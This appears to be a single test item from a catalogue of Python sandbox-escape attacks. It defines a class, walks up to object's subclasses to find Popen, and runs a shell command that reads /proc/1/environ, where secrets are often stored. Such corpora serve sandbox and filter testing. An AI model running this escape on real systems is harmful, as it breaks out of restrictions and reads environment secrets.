# attack-class: 7
# title: user class __mro__[-1].__subclasses__()
# why: starts the walk from a class the script defines

class Record:
    pass

root = Record.__mro__[-1]
for s in root.__subclasses__():
    if "Popen" in s.__name__:
        s("sh -c 'cat /proc/1/environ'", shell=True)
